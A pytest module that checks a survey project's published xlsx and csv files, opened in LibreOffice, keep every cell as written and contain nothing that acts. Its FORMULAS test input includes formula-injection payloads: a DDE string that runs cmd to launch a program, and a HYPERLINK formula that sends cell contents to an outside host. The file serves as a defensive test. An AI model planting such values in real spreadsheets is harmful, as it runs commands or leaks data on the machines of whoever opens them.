"""What a run publishes, opened with LibreOffice: each cell as written, nothing that acts."""

from __future__ import annotations

import csv
import re
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from tests.cases.coded import published_coded_run
from tests.cases.libreoffice import convert, sheets_of_each
from tests.cases.runs import THREE, published
from tests.cases.small import row, small_run

pytestmark = pytest.mark.libreoffice

FORMULAS = (
    *('=HYPERLINK("http://exemple.org/?"&A1;"ici")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)"),
    *("=cmd|' /C calc'!A0", "\t=1+1", "'=1+1", "#N/A", "#REF!", "_x003D_1+1", "{=1+1}"),
    *("http://exemple.org", "2022-03-14", "12:30", "1E5", "0012"),
)
MOST_PAGES = 15
BOOKMARK = re.compile(rb"/Title<FEFF([0-9A-F]+)>\s*/Dest\[(\d+) 0 R")


@pytest.fixture(scope="module")
def release() -> Path:
    return published(*THREE).release / "organisation"


def number_of(text: str) -> float:
    """A number as a French LibreOffice writes it in a CSV file."""
    plain = re.sub(r"\s", "", text).replace(",", ".")
    return float(plain[:-1]) / 100 if plain.endswith("%") else float(plain)


def is_same(text: str, value: object) -> bool:
    """LibreOffice's text stands for the cell's value."""
    if value is None or isinstance(value, str):
        return text == (value or "")
    if isinstance(value, datetime):
        shape = "%d/%m/%Y %H:%M:%S" if ":" in text else "%d/%m/%Y"
        return datetime.strptime(text, shape) == value  # noqa: DTZ007 - neither has a zone
    assert isinstance(value, int | float)
    return number_of(text) == pytest.approx(value, rel=1e-12)


def differing_cells(paths: list[Path], folder: Path) -> list[str]:
    """The cells that LibreOffice and openpyxl read otherwise."""
    return [
        f"{path.name} {cell}"
        for path, opened in zip(paths, sheets_of_each(paths, folder), strict=True)
        for cell in differing_in(openpyxl.load_workbook(path), opened)
    ]


def differing_in(book: openpyxl.Workbook, opened: dict[str, list[list[str]]]) -> list[str]:
    assert set(opened) == set(book.sheetnames)
    different = []
    for title, rows in opened.items():
        sheet = book[title]
        # Below the last row with something in it, LibreOffice tells none: the rows to fill.
        last = max(
            cell.row for line in sheet.iter_rows() for cell in line if cell.value is not None
        )
        assert (len(rows), max(map(len, rows))) == (last, sheet.max_column), title
        for line, texts in zip(sheet.iter_rows(max_row=last), rows, strict=True):
            different += [
                f"{title}!{cell.coordinate}"
                for cell, text in zip(line, texts, strict=False)
                if not is_same(text, cell.value)
            ]
    return different


def acting_parts(paths: list[Path], folder: Path) -> list[str]:
    """Formulas, cells in error, and links that leave the document."""
    first, *others = paths
    made = convert(first, "fods", folder, *others)
    document = "".join((made / f"{path.stem}.fods").read_text("utf-8") for path in paths)
    links = re.findall(r'xlink:href="([^"]*)"', document)
    return [
        *re.findall(r"table:formula|value-type=\"error\"|<script:event|<table:dde", document),
        *(link for link in links if not link.startswith("#") and link != ".."),
    ]


WORKBOOKS = (
    *("synthese.xlsx", "a-decider.xlsx", "justificatif.xlsx", "a-coder.xlsx"),
    "confidentiel/contacts.xlsx",
)


@pytest.mark.slow
def test_every_cell_of_the_workbooks_is_read_as_it_was_written(release, tmp_path):
    pack = published_coded_run().release / "soumission"
    paths = [*(release / name for name in WORKBOOKS), *sorted(pack.glob("*.xlsx"))]
    assert len(paths) == len(WORKBOOKS) + 2
    assert differing_cells(paths, tmp_path) == []
    assert acting_parts(paths, tmp_path) == []


@pytest.mark.slow
def test_what_strangers_typed_never_acts(tmp_path):
    names = ("Texte", "Autre_raison", "Nom", "Collectif", "Commune", "Téléphone", "Mode")
    rows = [
        row(sid, Envoi="Oui, en mon nom", **dict.fromkeys((*names, "Code_postal"), text))
        for sid, text in enumerate(FORMULAS, start=1)
    ]
    run = small_run(tmp_path / "run", *rows)
    run.publish()
    paths = [run.release / "organisation" / name for name in WORKBOOKS]

    assert differing_cells(paths, tmp_path) == []
    assert acting_parts(paths, tmp_path) == []


@pytest.mark.slow
def test_every_cell_of_the_statistics_is_read_as_it_was_written(release, tmp_path):
    """But for the zero of the first départements, whose name stands beside: CSV has no types."""
    paths = sorted((release / "statistiques").glob("*.csv"))
    assert len(paths) > 8
    different = []
    for path, sheets in zip(paths, sheets_of_each(paths, tmp_path), strict=True):
        with path.open(encoding="utf-8", newline="") as file:
            written = list(csv.reader(file))
        (opened,) = sheets.values()
        assert [len(line) for line in opened] == [len(line) for line in written], path.name
        different += [
            (path.stem, cell, text)
            for line, cells in zip(opened, written, strict=True)
            for text, cell in zip(line, cells, strict=True)
            if text != cell and not is_that_day(text, cell)
        ]
    assert different == [("participation_by_departement", f"0{n}", f"{n}") for n in range(1, 10)]


def is_that_day(text: str, cell: str) -> bool:
    """LibreOffice shows 2022-03-14 in the French way."""
    return re.fullmatch(r"\d{4}-\d\d-\d\d", cell) is not None and is_same(
        text, datetime.fromisoformat(cell)
    )


def pages_of(path: Path, folder: Path) -> dict[str, int]:
    """On how many pages each sheet prints."""
    document = (convert(path, "pdf", folder) / f"{path.stem}.pdf").read_bytes()
    order = [int(page) for page in re.findall(rb"(\d+) 0 R", kids(document))]
    starts = [
        (bytes.fromhex(title.decode()).decode("utf-16-be"), order.index(int(page)))
        for title, page in BOOKMARK.findall(document)
    ]
    ends = [*(start for _, start in starts[1:]), len(order)]
    return {title: end - start for (title, start), end in zip(starts, ends, strict=True)}


def kids(document: bytes) -> bytes:
    found = re.search(rb"/Kids\s*\[([^\]]*)\]", document)
    assert found is not None
    return found[1]


@pytest.mark.slow
def test_the_workbook_prints_on_few_pages(release, tmp_path):
    pages = pages_of(release / "synthese.xlsx", tmp_path)

    # The others say that they print on none.
    printed = ("Lisez-moi", "Chiffres clés", "Questions", "Participation", "Graphiques", "Notes")
    assert tuple(pages) == printed
    assert pages["Lisez-moi"] <= 2  # the steps of a full export are told where one is wanted
    assert sum(pages.values()) <= MOST_PAGES
